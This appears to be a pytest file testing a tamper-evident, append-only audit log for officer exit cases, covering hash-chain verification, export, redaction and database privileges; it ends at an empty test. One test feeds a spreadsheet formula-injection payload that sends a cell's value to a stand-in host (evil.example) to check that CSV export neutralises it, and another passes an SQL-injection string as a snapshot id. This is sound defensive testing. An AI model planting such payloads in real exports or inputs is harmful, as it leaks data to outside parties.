"""The audit log: append-only in the database, tamper-evident, verified, exported, redacted.

Tampering is done as a superuser would do it (the triggers disabled), never by the service's
own role, which cannot.
"""

from __future__ import annotations

import csv
import io
import json
import os
import secrets
import subprocess
import sys
from collections.abc import AsyncIterator
from datetime import UTC, datetime, timedelta
from pathlib import Path
from urllib.parse import urlsplit, urlunsplit

import asyncpg
import pytest
import pytest_asyncio

from domain.case import Application, CaseView
from domain.commands import StartCase
from domain.lifecycle import CaseState
from domain.officer import Rank
from domain.people import Actor, Role
from domain.policy import load_bundled_policy
from domain.records import AuditEntry, CaseEvent
from store import audit, schemes
from store.cases import apply_event
from store.migrate import migrate_url
from store.pool import create_pool
from tests.helpers.databases import scratch_database
from tests.helpers.processes import run_cli

CASEWORKER = Actor(user_id="u_cw", role=Role.CASEWORKER)
STATES = [CaseState.SUBMITTED, CaseState.HR_REVIEW, CaseState.APPROVAL, CaseState.OFFER_MADE]


@pytest_asyncio.fixture(loop_scope="session")
async def own_database(postgres_server_url: str) -> AsyncIterator[str]:
    """A database of the test's own: tampering must not leak into other tests' chains."""
    async with scratch_database(postgres_server_url, "exitcases_audit") as url:
        yield url


@pytest_asyncio.fixture(loop_scope="session")
async def app_pool(own_database: str) -> AsyncIterator[asyncpg.Pool]:
    pool = await create_pool(own_database)
    yield pool
    await pool.close()


async def record_case(
    pool: asyncpg.Pool, events: int = 4, officer_id: str = "OF1", reason: str = "naïve reason"
) -> str:
    """A case with ``events`` transitions, written as the workflow's activity writes them."""
    case_id = f"EX-{secrets.token_hex(5).upper()}"
    start = StartCase(
        case_id=case_id,
        officer_id=officer_id,
        rank=Rank.SUPERINTENDENT,
        application=Application(statement="ça va — «quoted»"),
        policy=load_bundled_policy(),
        created_by=CASEWORKER,
    )
    view: CaseView = start.submitted_view(datetime.now(UTC))
    for seq in range(1, events + 1):
        view = view.model_copy(update={"version": seq, "state": STATES[(seq - 1) % len(STATES)]})
        event = CaseEvent(
            view=view,
            audit=AuditEntry(
                seq=seq,
                action=f"step-{seq}",
                actor=CASEWORKER,
                from_state=STATES[(seq - 2) % len(STATES)] if seq > 1 else None,
                to_state=view.state,
                reason=reason if seq == 2 else None,
                details={"amount": "41538.46", "nested": {"b": [1, 2], "a": None}, "n": 10**12},
                occurred_at=datetime.now(UTC) + timedelta(microseconds=seq),
            ),
        )
        await apply_event(pool, event)
    return case_id


async def superuser(url: str) -> asyncpg.Connection:
    connection = await asyncpg.connect(url)
    await connection.execute("ALTER TABLE audit_events DISABLE TRIGGER USER")
    return connection


async def test_an_untouched_log_verifies_clean(app_pool: asyncpg.Pool) -> None:
    cases = [await record_case(app_pool) for _ in range(3)]
    report = await audit.verify(app_pool)
    assert report.clean and report.cases >= 3 and report.events >= 12
    one = await audit.verify(app_pool, cases[0])
    assert (one.cases, one.events, one.clean) == (1, 4, True)


async def test_a_retried_write_lands_once_and_the_chain_links(app_pool: asyncpg.Pool) -> None:
    case_id = await record_case(app_pool, events=2)
    rows = await app_pool.fetch(
        "SELECT seq, prev_hash, hash FROM audit_events WHERE case_id = $1 ORDER BY seq", case_id
    )
    assert rows[0]["prev_hash"] == audit.GENESIS and rows[1]["prev_hash"] == rows[0]["hash"]
    async with app_pool.acquire() as connection, connection.transaction():
        again = await audit.append_event(
            connection,
            {
                "case_id": case_id,
                "seq": 2,
                "action": "x",
                "actor_user_id": "u",
                "actor_role": "caseworker",
                "on_behalf_of": None,
                "from_state": None,
                "to_state": "hr_review",
                "reason": None,
                "details": {},
                "occurred_at": datetime.now(UTC),
            },
        )
    assert again is False
    assert (
        await app_pool.fetchval("SELECT count(*) FROM audit_events WHERE case_id = $1", case_id)
        == 2
    )


async def test_the_service_role_cannot_change_or_remove_events(app_pool: asyncpg.Pool) -> None:
    case_id = await record_case(app_pool, events=1)
    for statement in (
        "UPDATE audit_events SET reason = 'x' WHERE case_id = $1",
        "DELETE FROM audit_events WHERE case_id = $1",
    ):
        with pytest.raises(asyncpg.InsufficientPrivilegeError):
            await app_pool.execute(statement, case_id)
    with pytest.raises(asyncpg.InsufficientPrivilegeError):
        await app_pool.execute("TRUNCATE audit_events")
    privileges = {
        p: await app_pool.fetchval("SELECT has_table_privilege('audit_events', $1)", p)
        for p in ("SELECT", "INSERT", "UPDATE", "DELETE", "TRUNCATE")
    }
    assert privileges == {
        "SELECT": True,
        "INSERT": True,
        "UPDATE": False,
        "DELETE": False,
        "TRUNCATE": False,
    }


async def test_even_the_owner_meets_the_trigger(own_database: str, app_pool) -> None:
    case_id = await record_case(app_pool, events=1)
    owner = await asyncpg.connect(own_database)
    try:
        with pytest.raises(asyncpg.InsufficientPrivilegeError, match="append-only"):
            await owner.execute("UPDATE audit_events SET reason = 'x' WHERE case_id = $1", case_id)
        with pytest.raises(asyncpg.InsufficientPrivilegeError, match="append-only"):
            await owner.execute("TRUNCATE audit_events")
    finally:
        await owner.close()


async def _tamper(url: str, *statements: tuple[str, tuple]) -> None:
    connection = await superuser(url)
    try:
        async with connection.transaction():
            for sql, args in statements:
                await connection.execute(sql, *args)
    finally:
        await connection.execute("ALTER TABLE audit_events ENABLE TRIGGER USER")
        await connection.close()


async def _break(pool: asyncpg.Pool, case_id: str) -> audit.Break:
    report = await audit.verify(pool, case_id)
    assert report.breaks is not None and len(report.breaks) == 1, report.breaks
    return report.breaks[0]


async def test_a_changed_field_is_found(own_database: str, app_pool) -> None:
    case_id = await record_case(app_pool)
    await _tamper(
        own_database,
        (
            "UPDATE audit_events SET reason = 'nothing to see' WHERE case_id = $1 AND seq = 3",
            (case_id,),
        ),
    )
    broken = await _break(app_pool, case_id)
    assert (broken.seq, broken.problem) == (3, "hash mismatch (a field was changed)")


async def test_a_deleted_event_is_found(own_database: str, app_pool) -> None:
    case_id = await record_case(app_pool)
    await _tamper(
        own_database, ("DELETE FROM audit_events WHERE case_id = $1 AND seq = 2", (case_id,))
    )
    broken = await _break(app_pool, case_id)
    assert broken.seq == 2 and broken.problem.startswith("seq gap")


async def test_a_deleted_last_event_is_found_against_the_read_model(
    own_database: str, app_pool
) -> None:
    case_id = await record_case(app_pool)
    await _tamper(
        own_database, ("DELETE FROM audit_events WHERE case_id = $1 AND seq = 4", (case_id,))
    )
    broken = await _break(app_pool, case_id)
    assert broken.seq == 4 and "recorded 4 events" in broken.problem


async def test_reordered_events_are_found(own_database: str, app_pool) -> None:
    case_id = await record_case(app_pool)
    await _tamper(
        own_database,
        ("UPDATE audit_events SET seq = -2 WHERE case_id = $1 AND seq = 2", (case_id,)),
        ("UPDATE audit_events SET seq = 2 WHERE case_id = $1 AND seq = 3", (case_id,)),
        ("UPDATE audit_events SET seq = 3 WHERE case_id = $1 AND seq = -2", (case_id,)),
    )
    broken = await _break(app_pool, case_id)
    assert broken.seq == 2 and broken.problem.startswith("prev_hash mismatch")


async def test_an_inserted_event_is_found(own_database: str, app_pool) -> None:
    """A forger who knows the scheme: a well-formed event at seq 3, the rest moved up."""
    case_id = await record_case(app_pool)
    rows = await app_pool.fetch(
        "SELECT * FROM audit_events WHERE case_id = $1 ORDER BY seq", case_id
    )
    forged = dict(rows[1]) | {"seq": 3, "action": "approve", "reason": "forged"}
    forged["prev_hash"] = rows[1]["hash"]
    forged["hash"] = audit.event_hash(forged)
    await _tamper(
        own_database,
        ("UPDATE audit_events SET seq = seq + 10 WHERE case_id = $1 AND seq >= 3", (case_id,)),
        ("UPDATE audit_events SET seq = seq - 9 WHERE case_id = $1 AND seq >= 13", (case_id,)),
        (
            "INSERT INTO audit_events (case_id, seq, action, actor_user_id, actor_role, "
            "on_behalf_of, from_state, to_state, reason, details, occurred_at, prev_hash, hash) "
            "VALUES ($1, $2, $3, $4, $5, $6, $7, $8, $9, $10::jsonb, $11, $12, $13)",
            (
                case_id,
                3,
                forged["action"],
                forged["actor_user_id"],
                forged["actor_role"],
                None,
                forged["from_state"],
                forged["to_state"],
                forged["reason"],
                json.dumps(forged["details"]),
                forged["occurred_at"],
                forged["prev_hash"],
                forged["hash"],
            ),
        ),
    )
    broken = await _break(app_pool, case_id)
    # The forged event chains on; the event after it no longer does.
    assert broken.seq == 4


def _cli(url: str, *args: str) -> subprocess.CompletedProcess[str]:
    return run_cli("audit", *args, env=os.environ | {"EXITCASES_DATABASE_URL": url})


@pytest.mark.slow
async def test_the_command_line_verifies_and_names_the_first_broken_event(
    own_database: str, app_pool
) -> None:
    case_id = await record_case(app_pool)
    clean = _cli(own_database, "verify", "--case", case_id)
    assert clean.returncode == 0 and "clean" in clean.stdout
    await _tamper(
        own_database,
        (
            "UPDATE audit_events SET actor_user_id = 'u_other' WHERE case_id = $1 AND seq = 2",
            (case_id,),
        ),
    )
    broken = _cli(own_database, "verify")
    assert broken.returncode == 1
    assert f"case {case_id} event seq 2: hash mismatch" in broken.stdout


@pytest.mark.slow
async def test_export_streams_jsonl_and_csv_over_a_time_range(own_database: str, app_pool) -> None:
    before = datetime.now(UTC)
    case_id = await record_case(app_pool, events=3)
    lines = _cli(own_database, "export", "--since", before.isoformat(), "--format", "jsonl")
    assert lines.returncode == 0, lines.stderr
    events = [json.loads(line) for line in lines.stdout.splitlines()]
    mine = [e for e in events if e["case_id"] == case_id]
    assert [e["seq"] for e in mine] == [1, 2, 3]
    # An auditor's own tools recompute every hash from the export alone.
    for event in mine:
        event["occurred_at"] = datetime.fromisoformat(event["occurred_at"])
        assert audit.event_hash(event) == event["hash"]
    table = _cli(own_database, "export", "--since", before.isoformat(), "--format", "csv")
    header, *rows = table.stdout.splitlines()
    # Every cell quoted (store/safe_csv.py).
    assert header.startswith('"event_id","case_id","seq","action"')
    assert header.endswith('"prev_hash","hash"')
    assert sum(case_id in row for row in rows) == 3
    empty = _cli(own_database, "export", "--until", before.isoformat())
    assert case_id not in empty.stdout


async def test_redaction_removes_personal_data_and_keeps_the_chain(
    own_database: str, app_pool
) -> None:
    case_id = await record_case(app_pool)
    await app_pool.execute(
        "INSERT INTO officers (officer_id, name, rank, date_of_birth, service_start, annual_pay, "
        "pension_scheme, misconduct_pending, pensionable_service_days, service_as_of) "
        "VALUES ('OF1', 'Pat Example', 'superintendent', '1975-01-01', '2000-01-01', 80000, "
        "'2006', false, 7000, '2026-01-01') ON CONFLICT DO NOTHING"
    )
    await app_pool.execute(
        "UPDATE cases SET is_open = false, updated_at = now() - interval '3000 days' "
        "WHERE officer_id = 'OF1'"
    )
    assert await audit.redact_closed_cases(app_pool, older_than=timedelta(days=2190)) == 1
    row = await app_pool.fetchrow("SELECT * FROM officers WHERE officer_id = 'OF1'")
    assert row["name"] == audit.REDACTED and row["date_of_birth"] is None
    assert row["annual_pay"] is None and row["rank"] == "superintendent"
    assert row["pensionable_service_days"] is None and row["service_as_of"] is None
    assert (await audit.verify(app_pool, case_id)).clean
    assert await audit.redact_closed_cases(app_pool, older_than=timedelta(days=2190)) == 0


async def test_every_event_of_a_case_deleted_is_found_against_the_read_model(
    own_database: str, app_pool
) -> None:
    case_id = await record_case(app_pool, events=2)
    await _tamper(own_database, ("DELETE FROM audit_events WHERE case_id = $1", (case_id,)))
    broken = await _break(app_pool, case_id)
    assert broken.seq == 1 and broken.problem.startswith("seq gap")


async def test_details_hash_as_the_database_keeps_them(app_pool: asyncpg.Pool) -> None:
    """jsonb rewrites numbers and key order; the hash is of what comes back, so it verifies."""
    case_id = await record_case(app_pool, events=1)
    view = CaseView.model_validate_json(
        await app_pool.fetchval("SELECT view::text FROM cases WHERE case_id = $1", case_id)
    )
    details = {
        "z": 1e16,
        "a": [0.1, 1.50, -0.0, 10**20],
        "ünïcödé": "«€»\u2028",
        "amount": "41538.46",
        "nested": {"y": {"x": True}},
    }
    event = CaseEvent(
        view=view.model_copy(update={"version": 2}),
        audit=AuditEntry(
            seq=2,
            action="adjust-compensation",
            actor=CASEWORKER,
            from_state=view.state,
            to_state=view.state,
            reason="über",
            details=details,
            occurred_at=datetime(2026, 5, 4, 10, 0, 0, 123456, tzinfo=UTC),
        ),
    )
    assert await apply_event(app_pool, event) is True
    assert await apply_event(app_pool, event) is False
    assert (await audit.verify(app_pool, case_id)).clean
    stored = await app_pool.fetchval(
        "SELECT details FROM audit_events WHERE case_id = $1 AND seq = 2", case_id
    )
    assert stored["z"] == 10**16 and stored["ünïcödé"] == "«€»\u2028"


async def test_the_service_role_has_only_select_and_insert_on_the_logs(
    app_pool: asyncpg.Pool,
) -> None:
    assert await app_pool.fetchval("SELECT current_user") == "exitcases_app"
    for table in ("audit_events", "access_log"):
        rights = {
            p: await app_pool.fetchval(
                "SELECT has_table_privilege('exitcases_app', $1, $2)", table, p
            )
            for p in ("SELECT", "INSERT", "UPDATE", "DELETE", "TRUNCATE", "REFERENCES", "TRIGGER")
        }
        assert {p for p, granted in rights.items() if granted} == {"SELECT", "INSERT"}, table
    # The read model stays writable: the service needs it.
    assert await app_pool.fetchval("SELECT has_table_privilege('cases', 'UPDATE')")


async def test_the_access_log_records_reads_and_is_append_only(
    own_database: str, app_pool: asyncpg.Pool
) -> None:
    since = datetime.now(UTC)
    await audit.record_access(
        app_pool, user_id="u_aud", role="auditor", case_id="EX-A", endpoint="GET /v1/cases/{id}"
    )
    await audit.record_access(
        app_pool, user_id="u_cw", role="caseworker", case_id="EX-B", endpoint="GET /v1/x"
    )
    lines = [
        json.loads(line)
        async for line in audit.export_access(app_pool, case_id="EX-A", since=since)
    ]
    assert [(e["user_id"], e["case_id"]) for e in lines] == [("u_aud", "EX-A")]
    with pytest.raises(asyncpg.InsufficientPrivilegeError):
        await app_pool.execute("DELETE FROM access_log")
    owner = await asyncpg.connect(own_database)
    try:
        with pytest.raises(asyncpg.InsufficientPrivilegeError, match="append-only"):
            await owner.execute("UPDATE access_log SET user_id = 'someone else'")
    finally:
        await owner.close()


async def test_export_in_process_streams_both_formats(app_pool: asyncpg.Pool) -> None:
    before = datetime.now(UTC)
    case_id = await record_case(app_pool, events=2)
    after = datetime.now(UTC) + timedelta(seconds=1)
    jsonl = [line async for line in audit.export(app_pool, before, after, audit.ExportFormat.JSONL)]
    assert sum(json.loads(line)["case_id"] == case_id for line in jsonl) == 2
    csv_chunks = [c async for c in audit.export(app_pool, before, after, audit.ExportFormat.CSV)]
    # One chunk per event (the header rides with the first): nothing is gathered up.
    assert csv_chunks[0].startswith('"event_id",') and len(csv_chunks) == len(jsonl)
    assert "".join(csv_chunks).count(case_id) == 2
    nothing = [line async for line in audit.export(app_pool, after, None)]
    assert nothing == []


async def test_redaction_clears_the_free_text_of_the_case_view(
    own_database: str, app_pool: asyncpg.Pool
) -> None:
    officer_id = f"OF{secrets.token_hex(3)}"
    case_id = await record_case(app_pool, officer_id=officer_id)
    await app_pool.execute(
        "INSERT INTO officers (officer_id, name, rank, date_of_birth, service_start, annual_pay, "
        "pension_scheme, misconduct_pending) VALUES ($1, 'Sam Example', 'superintendent', "
        "'1970-02-02', '1995-01-01', 90000, '2006', false)",
        officer_id,
    )
    # Closed long ago (as the workflow's last transition would leave it).
    await app_pool.execute(
        "UPDATE cases SET is_open = false, updated_at = now() - interval '7 years' "
        "WHERE case_id = $1",
        case_id,
    )
    assert await audit.redact_closed_cases(app_pool, older_than=timedelta(days=2190)) >= 1
    view = CaseView.model_validate_json(
        await app_pool.fetchval("SELECT view::text FROM cases WHERE case_id = $1", case_id)
    )
    assert view.application.statement == audit.REDACTED and view.calculation is None
    assert view.case_id == case_id and view.state is CaseState.OFFER_MADE
    assert (await audit.verify(app_pool, case_id)).clean


async def test_open_or_recent_cases_are_not_redacted(app_pool: asyncpg.Pool) -> None:
    officer_id = f"OF{secrets.token_hex(3)}"
    await record_case(app_pool, officer_id=officer_id)
    await app_pool.execute(
        "INSERT INTO officers (officer_id, name, rank, date_of_birth, service_start, annual_pay, "
        "pension_scheme, misconduct_pending) VALUES ($1, 'Kim Example', 'superintendent', "
        "'1970-02-02', '1995-01-01', 90000, '2006', false)",
        officer_id,
    )
    await audit.redact_closed_cases(app_pool, older_than=timedelta(days=2190))
    assert (
        await app_pool.fetchval("SELECT name FROM officers WHERE officer_id = $1", officer_id)
        == "Kim Example"
    )


# The auditor's stand-alone checker (docs/audit.md), run as an auditor would run it.
VERIFY_SCRIPT = Path(__file__).resolve().parents[2] / "scripts" / "audit-verify.py"


def _verify_script(stdin: str) -> subprocess.CompletedProcess[str]:
    script = [sys.executable, str(VERIFY_SCRIPT)]
    return subprocess.run(script, input=stdin, capture_output=True, text=True, check=False)


@pytest.mark.slow
async def test_the_stand_alone_script_rechecks_an_export_on_its_own(
    own_database: str, app_pool: asyncpg.Pool
) -> None:
    case_id = await record_case(app_pool)
    exported = _cli(own_database, "export").stdout
    clean = _verify_script(exported)
    assert clean.returncode == 0 and " 0 broken" in clean.stdout, clean.stdout + clean.stderr
    await _tamper(
        own_database,
        (
            "UPDATE audit_events SET to_state = 'approval' WHERE case_id = $1 AND seq = 2",
            (case_id,),
        ),
    )
    tampered = _verify_script(_cli(own_database, "export").stdout)
    assert tampered.returncode == 1
    assert f"case {case_id} event seq 2: hash mismatch" in tampered.stdout


async def test_redaction_reaches_questions_assessments_and_representations(
    app_pool: asyncpg.Pool,
) -> None:
    officer_id = f"OF{secrets.token_hex(3)}"
    case_id = await record_case(app_pool, officer_id=officer_id)
    at = "2026-05-04T09:00:00Z"
    extra = {
        "info_requests": [
            {"question": "payslips?", "asked_by": "u_cw", "asked_at": at, "answer": "attached"},
            {"question": "dates?", "asked_by": "u_cw", "asked_at": at, "answer": None},
        ],
        "efficiency": {
            "proposal": {
                "critical_skills": "about the person",
                "performance": "about the person",
                "equality_impact_reference": "EIA-2026-04",
            },
            "representations": [{"text": "my health", "by": "u_o", "at": at}],
            "notice_served_on": "2026-05-04",
        },
    }
    await app_pool.execute(
        "UPDATE cases SET view = view || $2::jsonb, is_open = false, "
        "updated_at = now() - interval '7 years' WHERE case_id = $1",
        case_id,
        extra,
    )
    await app_pool.execute(
        "INSERT INTO officers (officer_id, name, rank, date_of_birth, service_start, annual_pay, "
        "pension_scheme, misconduct_pending, sex) VALUES ($1, 'Lee Example', 'superintendent', "
        "'1970-02-02', '1995-01-01', 90000, '2006', true, 'female')",
        officer_id,
    )
    assert await audit.redact_closed_cases(app_pool, older_than=timedelta(days=2190)) >= 1
    view = await app_pool.fetchval("SELECT view FROM cases WHERE case_id = $1", case_id)
    r = audit.REDACTED
    assert [(q["question"], q["answer"], q["asked_by"]) for q in view["info_requests"]] == [
        (r, r, "u_cw"),
        (r, None, "u_cw"),
    ]
    proposal = view["efficiency"]["proposal"]
    assert (proposal["critical_skills"], proposal["performance"]) == (r, r)
    assert proposal["equality_impact_reference"] == "EIA-2026-04"
    assert view["efficiency"]["representations"] == [{"text": r, "by": "u_o", "at": at}]
    assert view["efficiency"]["notice_served_on"] == "2026-05-04"
    officer = await app_pool.fetchrow("SELECT * FROM officers WHERE officer_id = $1", officer_id)
    assert (officer["sex"], officer["misconduct_pending"], officer["redacted_at"] is not None) == (
        None,
        None,
        True,
    )
    assert (await audit.verify(app_pool, case_id)).clean


@pytest.mark.slow
async def test_the_command_line_redacts_and_exports_the_access_log(
    own_database: str, app_pool: asyncpg.Pool
) -> None:
    await audit.record_access(
        app_pool, user_id="u_cli", role="auditor", case_id="EX-CLI", endpoint="GET /v1/x"
    )
    access = _cli(own_database, "access", "--case", "EX-CLI")
    assert access.returncode == 0, access.stderr
    assert [json.loads(line)["user_id"] for line in access.stdout.splitlines()] == ["u_cli"]
    redacted = _cli(own_database, "redact", "--older-than-days", "2190")
    assert redacted.returncode == 0 and "redacted the personal data of" in redacted.stdout
    refused = _cli(own_database, "redact", "--older-than-days", "-1")
    assert refused.returncode == 2 and "positive" in refused.stderr


async def test_the_documented_production_logins_cannot_touch_the_log(
    postgres_server_url: str,
) -> None:
    """An owner login migrates; the service login, a member of exitcases_app, can append and
    read but not change the log, even after dropping the role (it has no rights of its own)."""
    suffix = secrets.token_hex(3)
    owner, service, name = f"ec_owner_{suffix}", f"ec_service_{suffix}", f"ec_prod_{suffix}"
    admin = await asyncpg.connect(postgres_server_url)
    try:
        await admin.execute(f"CREATE ROLE {owner} LOGIN")
        await admin.execute(f"CREATE ROLE {service} LOGIN NOINHERIT IN ROLE exitcases_app")
        await admin.execute(f'CREATE DATABASE "{name}" OWNER {owner}')
        parts = urlsplit(postgres_server_url)
        host = parts.netloc.split("@")[-1]

        def url(user: str) -> str:
            return urlunsplit(parts._replace(netloc=f"{user}@{host}", path=f"/{name}"))

        await migrate_url(url(owner))
        pool = await create_pool(url(service), max_size=2)
        try:
            case_id = await record_case(pool, events=2)
            assert (await audit.verify(pool, case_id)).clean
            async with pool.acquire() as connection:
                # RESET ROLE would return to the connection's default (exitcases_app): drop it.
                await connection.execute("SET ROLE NONE")
                assert await connection.fetchval("SELECT current_user") == service
                for statement in (
                    "UPDATE audit_events SET reason = 'x'",
                    "DELETE FROM audit_events",
                    "ALTER TABLE audit_events DISABLE TRIGGER USER",
                ):
                    with pytest.raises(asyncpg.InsufficientPrivilegeError):
                        await connection.execute(statement)
                await connection.execute("SET ROLE exitcases_app")
        finally:
            await pool.close()
    finally:
        await admin.execute(f'DROP DATABASE IF EXISTS "{name}" WITH (FORCE)')
        await admin.execute(f"DROP ROLE IF EXISTS {service}")
        await admin.execute(f"DROP ROLE IF EXISTS {owner}")
        await admin.close()


@pytest.mark.slow
async def test_verifying_a_case_that_does_not_exist_is_an_error_naming_it(
    own_database: str, app_pool
) -> None:
    await record_case(app_pool)
    missing = _cli(own_database, "verify", "--case", "NO-SUCH-CASE")
    assert missing.returncode == 1
    assert "no case NO-SUCH-CASE" in missing.stderr and "clean" not in missing.stdout


@pytest.mark.slow
@pytest.mark.parametrize(
    ("args", "option"),
    [
        (("export", "--since", "0001-01-01T00:00:00+14:00"), "--since"),
        (("access", "--since", "0001-01-01T00:00:00+14:00"), "--since"),
        (("export", "--until", "9999-12-31T23:59:59-14:00"), "--until"),
        (("access", "--until", "last tuesday"), "--until"),
        (("export", "--since", "2026-01-01T00:00:00"), "--since"),
    ],
)
def test_a_bad_moment_names_the_option_and_the_expected_form(
    args: tuple[str, ...], option: str
) -> None:
    result = _cli("postgresql://nobody@127.0.0.1:1/none", *args)
    assert result.returncode == 2
    assert f"argument {option}: expected an ISO 8601 moment with a zone" in result.stderr
    assert "Traceback" not in result.stderr


@pytest.mark.slow
def test_until_before_since_is_refused_before_reading_anything() -> None:
    for command in ("export", "access"):
        result = _cli(
            "postgresql://nobody@127.0.0.1:1/none",
            command,
            "--since",
            "2026-02-01T00:00:00Z",
            "--until",
            "2026-01-01T00:00:00Z",
        )
        assert result.returncode == 2
        assert result.stderr.strip() == "error: --until: until is before since"


@pytest.mark.slow
async def test_csv_cells_that_look_like_formulas_are_neutralised_and_jsonl_still_verifies(
    own_database: str, app_pool
) -> None:
    before = datetime.now(UTC)
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Open")'
    case_id = await record_case(app_pool, events=3, reason=formula)
    table = _cli(own_database, "export", "--since", before.isoformat(), "--format", "csv")
    assert table.returncode == 0, table.stderr
    rows = [r for r in csv.DictReader(io.StringIO(table.stdout)) if r["case_id"] == case_id]
    assert rows[1]["reason"] == "'" + formula
    assert '"\'=HYPERLINK(""http://evil.example/?""&A1,""Open"")"' in table.stdout

    # The JSON-lines export is the lossless one: the chain verifies from it alone.
    lines = _cli(own_database, "export", "--since", before.isoformat())
    events = [json.loads(line) for line in lines.stdout.splitlines()]
    mine = [e for e in events if e["case_id"] == case_id]
    assert mine[1]["reason"] == formula
    previous = audit.GENESIS
    for event in mine:
        assert event["prev_hash"] == previous
        event["occurred_at"] = datetime.fromisoformat(event["occurred_at"])
        assert audit.event_hash(event) == event["hash"]
        previous = event["hash"]
    verified = _cli(own_database, "verify", "--case", case_id)
    assert verified.returncode == 0 and "clean" in verified.stdout


async def _every_way_broken(url: str, pool: asyncpg.Pool) -> dict[str, str]:
    """Cases spread over the id space, each broken a different way, and clean ones between."""
    cases = sorted([await record_case(pool) for _ in range(12)])
    ways = ("changed", "deleted", "tail", "emptied", "reordered")
    broken = dict(zip(ways, cases[:10:2], strict=True))
    await _tamper(
        url,
        (
            "UPDATE audit_events SET reason = 'x' WHERE case_id = $1 AND seq = 3",
            (broken["changed"],),
        ),
        ("DELETE FROM audit_events WHERE case_id = $1 AND seq = 2", (broken["deleted"],)),
        ("DELETE FROM audit_events WHERE case_id = $1 AND seq = 4", (broken["tail"],)),
        ("DELETE FROM audit_events WHERE case_id = $1", (broken["emptied"],)),
        ("UPDATE audit_events SET seq = -2 WHERE case_id = $1 AND seq = 2", (broken["reordered"],)),
        ("UPDATE audit_events SET seq = 2 WHERE case_id = $1 AND seq = 3", (broken["reordered"],)),
        ("UPDATE audit_events SET seq = 3 WHERE case_id = $1 AND seq = -2", (broken["reordered"],)),
        # A chain the read model has no case for is checked all the same.
        ("DELETE FROM tasks WHERE case_id = $1", (cases[-1],)),
        ("DELETE FROM cases WHERE case_id = $1", (cases[-1],)),
        ("UPDATE audit_events SET action = 'x' WHERE case_id = $1 AND seq = 1", (cases[-1],)),
    )
    # The split into ranges samples the table, by the row count ANALYZE leaves.
    owner = await asyncpg.connect(url)
    try:
        await owner.execute("ANALYZE audit_events")
    finally:
        await owner.close()
    return broken | {"unread": cases[-1]}


@pytest.mark.slow
async def test_verifying_in_several_processes_reports_what_one_process_does(
    own_database: str, app_pool: asyncpg.Pool
) -> None:
    broken = await _every_way_broken(own_database, app_pool)
    async with app_pool.acquire() as connection, connection.transaction():
        bounds = await audit.range_bounds(connection, 3, events_per_process=1)
    assert len(bounds) == 2  # three ranges: this process and two more

    alone = await audit.verify(app_pool)
    together = await audit.verify(
        app_pool, database_url=own_database, processes=3, events_per_process=1
    )

    assert together == alone  # the same cases, events and breaks, in the same order
    assert (alone.cases, alone.events) == (12, 12 * 4 - 1 - 1 - 4)
    assert [(b.case_id, b.seq) for b in alone.breaks] == [
        (broken["changed"], 3),
        (broken["deleted"], 2),
        (broken["tail"], 4),
        (broken["reordered"], 2),
        (broken["unread"], 1),
        (broken["emptied"], 1),  # a case with no event left comes last, as it always has
    ]


async def test_a_range_is_verified_in_the_snapshot_it_is_handed(
    own_database: str, app_pool: asyncpg.Pool
) -> None:
    await record_case(app_pool)
    async with (
        app_pool.acquire() as connection,
        connection.transaction(readonly=True, isolation="repeatable_read"),
    ):
        snapshot = await connection.fetchval("SELECT pg_export_snapshot()")
        later = await record_case(app_pool)  # committed after the snapshot was taken
        request = audit.RangeRequest(
            database_url=own_database, snapshot=snapshot, lower="", upper=None, prefetch=2
        )
        part = await audit.verify_in_snapshot(request)
        assert (part.cases, part.events, part.breaks) == (1, 4, [])
        with pytest.raises(ValueError, match="not a snapshot id"):
            await audit.verify_in_snapshot(request.model_copy(update={"snapshot": "1'; --"}))
    assert (await audit.verify(app_pool, later)).events == 4
    with pytest.raises(ValueError, match="database URL"):
        await audit.verify(app_pool, processes=2)


@pytest.mark.slow
async def test_the_command_line_verifies_in_as_many_processes_as_asked(
    own_database: str, app_pool: asyncpg.Pool
) -> None:
    await _every_way_broken(own_database, app_pool)
    alone = _cli(own_database, "verify", "--processes", "1")
    several = _cli(own_database, "verify", "--processes", "4")
    assert alone.returncode == several.returncode == 1
    assert several.stdout == alone.stdout
    assert alone.stdout.endswith("verified 42 events in 12 cases: 6 broken chain(s)\n")
    refused = _cli(own_database, "verify", "--processes", "0")
    assert refused.returncode == 2 and "--processes" in refused.stderr


# -- a scheme's own chain: invitation runs started (issue 17) --------------------------------

HR_MANAGER = Actor(user_id="u_hrm", role=Role.HR_MANAGER)


async def test_a_started_run_is_one_event_of_the_schemes_chain_however_often_it_is_sent(
    app_pool: asyncpg.Pool,
) -> None:
    for run_id in ("run-a", "run-a", "run-b"):
        await schemes.record_run(app_pool, "ves-chain", run_id, [Rank.SUPERINTENDENT], HR_MANAGER)
    chain = audit.scheme_chain("ves-chain")
    events = await app_pool.fetch(
        "SELECT seq, action, actor_user_id, actor_role, details FROM audit_events "
        "WHERE case_id = $1 ORDER BY seq",
        chain,
    )
    assert [(e["seq"], e["details"]["run_id"]) for e in events] == [
        (1, "run-a"),
        (2, "run-b"),
    ]
    assert {(e["action"], e["actor_user_id"], e["actor_role"]) for e in events} == {
        ("start_invitations", "u_hrm", "hr_manager")
    }
    assert events[0]["details"]["ranks"] == ["superintendent"]
    report = await audit.verify(app_pool, chain)
    assert report.clean and (report.cases, report.events) == (1, 2)


async def _tampered_scheme_chain(url: str, pool: asyncpg.Pool, scheme: str) -> str:
    """A scheme's chain of three runs, its second event's actor changed by a superuser."""
    for run_id in ("run-1", "run-2", "run-3"):
        await schemes.record_run(pool, scheme, run_id, [Rank.SUPERINTENDENT], HR_MANAGER)
    chain = audit.scheme_chain(scheme)
    assert (await audit.verify(pool, chain)).clean
    await _tamper(
        url,
        (
            "UPDATE audit_events SET actor_user_id = 'u_other' WHERE case_id = $1 AND seq = 2",
            (chain,),
        ),
    )
    return chain


async def test_a_schemes_chain_tampered_with_is_found(own_database: str, app_pool) -> None:
    chain = await _tampered_scheme_chain(own_database, app_pool, "ves-tamper")
    broken = await _break(app_pool, chain)
    assert (broken.seq, broken.problem) == (2, "hash mismatch (a field was changed)")


@pytest.mark.slow
async def test_the_stand_alone_script_finds_a_schemes_chain_tampered_with(
    own_database: str, app_pool: asyncpg.Pool
) -> None:
    chain = await _tampered_scheme_chain(own_database, app_pool, "ves-script")
    tampered = _verify_script("".join([line async for line in audit.export(app_pool)]))
    assert tampered.returncode == 1
    assert f"case {chain} event seq 2: hash mismatch" in tampered.stdout
    assert " 1 broken" in tampered.stdout


async def test_a_schemes_last_event_deleted_is_found_against_its_runs(
    own_database: str, app_pool: asyncpg.Pool
) -> None:
